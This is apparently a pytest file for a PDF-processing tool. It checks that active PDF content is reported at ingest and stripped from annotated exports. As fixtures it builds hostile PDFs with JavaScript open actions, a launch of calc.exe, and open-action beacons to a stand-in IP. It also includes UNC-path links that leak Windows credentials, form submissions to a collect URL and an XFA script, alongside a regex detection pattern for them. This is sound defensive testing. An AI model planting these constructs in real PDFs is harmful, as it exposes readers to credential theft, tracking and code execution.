"""Active content (issue 10, item 8; issue 37, item 7): JavaScript, actions on open, links that
leave the document, form submissions and imports, XFA, multimedia, embedded files and file
attachments are reported by name at ingest as a document warning (shown on the Documents page)
and left out of the annotated-PDF export, whose text and highlights stay as they are."""

from __future__ import annotations

import re
from pathlib import Path

import pymupdf
import pytest

from workbench.pdf import open_pdf
from workbench.pdf.active import find, strip

TEXT = "The operator shall keep records of every change for three years."


def _base() -> tuple[pymupdf.Document, pymupdf.Page]:
    doc = pymupdf.open()
    page = doc.new_page(width=612, height=792)
    page.insert_textbox(pymupdf.Rect(72, 72, 540, 720), TEXT, fontsize=11, fontname="helv")
    page.insert_link({"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(72, 700, 200, 720), "uri": "https://example.org/"})
    return doc, page


def _js_open_action(doc, page):
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", "<</S/JavaScript/JS(app.alert\\(1\\))>>")


def _js_name_tree(doc, page):
    action = doc.get_new_xref()
    doc.update_object(action, "<</S/Java#53cript/JS(app.launchURL\\('http://203.0.113.5/'\\))>>")  # #53 = S
    doc.xref_set_key(doc.pdf_catalog(), "Names", f"<</JavaScript <</Names[(a) {action} 0 R]>>>>")


def _js_page_open(doc, page):
    doc.xref_set_key(page.xref, "AA", "<</O <</S/JavaScript/JS(this.print\\(\\))>>>>")


def _launch(doc, page):
    page.insert_link({"kind": pymupdf.LINK_LAUNCH, "from": pymupdf.Rect(72, 600, 200, 620), "file": "calc.exe"})


def _embedded(doc, page):
    doc.embfile_add("payload.exe", b"MZ\x90\x00 not really a program", filename="payload.exe")


def _attachment(doc, page):
    page.add_file_annot(pymupdf.Point(300, 650), b"hello", "notes.txt")


ON_OPEN = "actions run on opening the document or a page (OpenAction, AA)"
KINDS = {
    "javascript (open action)": (_js_open_action, f"JavaScript and {ON_OPEN}."),
    "javascript (name tree, escaped name)": (_js_name_tree, "JavaScript."),
    "javascript (page open action)": (_js_page_open, f"JavaScript and {ON_OPEN}."),
    "launch": (_launch, "launch actions (they open other programs or files)."),
    "embedded file": (_embedded, "1 embedded file."),
    "attachment": (_attachment, "1 file attachment."),
}


def active_pdf(tmp_path: Path, *adders) -> Path:
    doc, page = _base()
    for add in adders:
        add(doc, page)
    path = tmp_path / "active.pdf"
    doc.save(path)
    return path


def test_a_plain_pdf_carries_nothing_and_gets_no_warning(tmp_path):
    path = active_pdf(tmp_path)
    with pymupdf.open(path) as doc:
        assert not find(doc)
    assert not [w for w in open_pdf(path).document.warnings if "active content" in w]


@pytest.mark.parametrize("kind", list(KINDS))
def test_each_kind_is_a_document_warning_at_ingest(tmp_path, kind):
    add, says = KINDS[kind]
    warnings = open_pdf(active_pdf(tmp_path, add)).document.warnings
    assert [w for w in warnings if w.startswith(f"carries active content: {says}")], warnings
    assert any("the annotated PDF export leaves it out" in w for w in warnings)


def test_everything_at_once_is_one_warning_listing_each_kind(tmp_path):
    path = active_pdf(tmp_path, *(add for add, _ in KINDS.values()))
    (w,) = [w for w in open_pdf(path).document.warnings if "active content" in w]
    assert w.startswith("carries active content: JavaScript, launch actions (they open other programs or files), "
                        f"{ON_OPEN}, 1 embedded file and 1 file attachment.")


def test_strip_removes_every_kind_and_keeps_text_and_links_within_the_document(tmp_path):
    path = active_pdf(tmp_path, *(add for add, _ in KINDS.values()))
    doc = pymupdf.open(path)
    doc[0].insert_link({"kind": pymupdf.LINK_GOTO, "from": pymupdf.Rect(72, 650, 200, 670), "page": 0})
    assert find(doc)
    strip(doc)
    out = pymupdf.open(stream=doc.tobytes(garbage=1, deflate=True), filetype="pdf")
    assert not find(out), find(out)
    assert TEXT in " ".join(out[0].get_text().split())
    assert [ln["kind"] for ln in out[0].get_links()] == [pymupdf.LINK_GOTO]  # the web link went (issue 37)


def test_the_annotated_export_leaves_active_content_out(tmp_path):
    from tests.export.conftest import evidence, load_pdf, make_bundle, status
    from workbench.export.annotated_pdf import to_annotated_pdf
    from workbench.export.bundle import RunBundle
    from workbench.models import Run

    pdf = load_pdf(active_pdf(tmp_path, *(add for add, _ in KINDS.values())))
    ev = evidence(pdf, "REQ-S001", TEXT)
    run = Run(run_id="r", question="q", document_ids=[pdf.document.id], evidence=[ev])
    data, media = to_annotated_pdf(make_bundle([pdf], [RunBundle(run=run, statuses=[status("r", ev, True)])]))
    out = pymupdf.open(stream=data, filetype="pdf")
    assert not find(out), find(out)
    assert [a.info["title"] for a in out[0].annots()] == ["REQ-S001"]  # the highlight stays; the attachment went
    for raw in (b"/S/JavaScript", b"/JS", b"/Launch", b"calc.exe", b"payload.exe", b"notes.txt", b"app.alert"):
        assert raw not in data  # what is left is "/JavaScript null": an entry that points nowhere


# --- issue 37, item 7: every kind of active content, not only JavaScript ---------------------------
# A hostile author's PDF: actions on open that reach out (a web beacon, a UNC path whose lookup
# hands a Windows reader's credentials to the host), form submissions and imports, an XFA form's
# scripts, multimedia. Ingest names each; the annotated export keeps none of them.
UNC = "(\\\\\\\\203.0.113.5\\\\share\\\\x.pdf)"  # the PDF string (\\203.0.113.5\share\x.pdf)


def _annot(doc, page, body: str) -> None:
    """Add an annotation object to the page by hand (PyMuPDF has no API for hostile ones)."""
    xref = doc.get_new_xref()
    doc.update_object(xref, f"<</Type/Annot/Rect[72 400 200 420]/P {page.xref} 0 R{body}>>")
    kind, value = doc.xref_get_key(page.xref, "Annots")
    items = value.strip()[1:-1] if kind == "array" else ""
    doc.xref_set_key(page.xref, "Annots", f"[{items} {xref} 0 R]")


def _open_uri(doc, page):
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", "<</S/URI/URI(https://203.0.113.5/beacon)>>")


def _open_gotor_unc(doc, page):
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", f"<</S/GoToR/F{UNC}/D[0/Fit]>>")


def _document_aa(doc, page):
    doc.xref_set_key(doc.pdf_catalog(), "AA", "<</WC <</S/URI/URI(https://203.0.113.5/closed)>>>>")


def _annotation_aa(doc, page):
    _annot(doc, page, "/Subtype/Link/AA <</E <</S/URI/URI(https://203.0.113.5/hover)>>>>")


def _import_data_unc(doc, page):
    _annot(doc, page, f"/Subtype/Link/A <</S/ImportData/F{UNC}>>")


def _submit_form(doc, page):
    _annot(doc, page, "/Subtype/Link/A <</S/SubmitForm/F <</FS/URL/F(https://203.0.113.5/collect)>>>>")


def _file_uri(doc, page):
    _annot(doc, page, "/Subtype/Link/A <</S/URI/URI(file://203.0.113.5/share/x.pdf)>>")


def _unc_uri(doc, page):
    _annot(doc, page, f"/Subtype/Link/A <</S/URI/URI{UNC}>>")


def _xfa(doc, page):
    xfa = doc.get_new_xref()
    doc.update_object(xfa, "<<>>")
    doc.update_stream(xfa, b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event '
                           b'activity="initialize"><script contentType="application/x-javascript">app.alert(1)'
                           b"</script></event></subform></template></xdp:xdp>", new=True)
    doc.xref_set_key(doc.pdf_catalog(), "AcroForm", f"<</Fields[]/XFA {xfa} 0 R>>")


def _rendition(doc, page):
    _annot(doc, page, "/Subtype/Screen/A <</S/Rendition/OP 0/R <</S/MR/C <</S/MCD/D(file:///x.mp4)>>>>>>")


def _rich_media(doc, page):
    _annot(doc, page, "/Subtype/RichMedia/RichMediaContent <</Assets <</Names[]>>>>")


HOSTILE = {
    "open action to a web address": (_open_uri, ["actions run on opening the document or a page (OpenAction, AA)"]),
    "open action to a UNC path": (_open_gotor_unc, ["actions run on opening the document or a page (OpenAction, AA)",
                                                    "links to other files or network shares (GoToR)"]),
    "document additional action": (_document_aa, ["actions run on opening the document or a page (OpenAction, AA)"]),
    "annotation additional action": (_annotation_aa,
                                     ["actions run on opening the document or a page (OpenAction, AA)"]),
    "ImportData from a UNC path": (_import_data_unc, ["form data imports (ImportData)"]),
    "SubmitForm": (_submit_form, ["form submissions (SubmitForm)"]),
    "URI to a file share": (_file_uri, ["links to local files or network shares (URI)"]),
    "URI to a UNC path": (_unc_uri, ["links to local files or network shares (URI)"]),
    "XFA form with a script": (_xfa, ["an XFA form (it can hold scripts)"]),
    "rendition": (_rendition, ["multimedia (Rendition, Screen)"]),
    "rich media": (_rich_media, ["multimedia (RichMedia)"]),
}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_ingest_names_each_kind_of_active_content(tmp_path, kind):
    add, names = HOSTILE[kind]
    (warning,) = [w for w in open_pdf(active_pdf(tmp_path, add)).document.warnings if "active content" in w]
    assert all(name in warning for name in names), warning


# Anything that acts without the reader's choice or leaves the document, as it reads in an object.
_FORBIDDEN = re.compile(
    r"/S\s*/(?:URI|GoToR|GoToE|GoToDp|Launch|ImportData|SubmitForm|ResetForm|JavaScript|Rendition|Sound|Movie"
    r"|RichMediaExecute|Named|Hide|SetOCGState|Thread|GoTo3DView)\b"
    r"|/Subtype\s*/(?:FileAttachment|RichMedia|Screen|Sound|Movie|3D)\b"
    r"|/(?:OpenAction|AA|XFA|EmbeddedFiles|EmbeddedFile|JavaScript|JS|EF|URI|Collection|RichMediaContent)\b"
    r"\s*(?!null\b)[^\s/>]")  # such a key, unless its value is null


def _active_objects(data: bytes) -> list[str]:
    out = pymupdf.open(stream=data, filetype="pdf")
    found = []
    for xref in range(1, out.xref_length()):
        src = out.xref_object(xref, compressed=False)
        stream = out.xref_stream(xref) if out.xref_is_stream(xref) else b""
        if _FORBIDDEN.search(src) or b"<script" in (stream or b"").lower():
            found.append(f"{xref}: {' '.join(src.split())[:200]}")
    return found


def test_the_annotated_export_carries_no_active_content_of_any_kind(tmp_path):
    from tests.export.conftest import evidence, load_pdf, make_bundle, status
    from workbench.export.annotated_pdf import to_annotated_pdf
    from workbench.export.bundle import RunBundle
    from workbench.models import Run

    adders = [add for add, _ in KINDS.values()] + [add for add, _ in HOSTILE.values() if add is not _open_uri]
    pdf = load_pdf(active_pdf(tmp_path, *adders))
    assert _active_objects(pdf.data)  # the hostile input carries them
    ev = evidence(pdf, "REQ-S001", TEXT)
    run = Run(run_id="r", question="q", document_ids=[pdf.document.id], evidence=[ev])
    data, _ = to_annotated_pdf(make_bundle([pdf], [RunBundle(run=run, statuses=[status("r", ev, True)])]))
    assert _active_objects(data) == []
    out = pymupdf.open(stream=data, filetype="pdf")
    assert [a.info["title"] for a in out[0].annots()] == ["REQ-S001"]  # the highlight stays
    assert TEXT in " ".join(out[0].get_text().split())
    assert out[0].get_links() == []  # no link leaves the document (the web link went too)


def test_a_link_to_a_fragment_is_no_warning_but_leaves_the_export(tmp_path):
    """HTML converters leave links like (#C79): relative, so no warning; the export drops them too."""
    path = active_pdf(tmp_path, lambda doc, page: _annot(doc, page, "/Subtype/Link/A <</S/URI/URI(#C79)>>"))
    assert not [w for w in open_pdf(path).document.warnings if "active content" in w]
    doc = pymupdf.open(path)
    strip(doc)
    assert pymupdf.open(stream=doc.tobytes(garbage=1), filetype="pdf")[0].get_links() == []
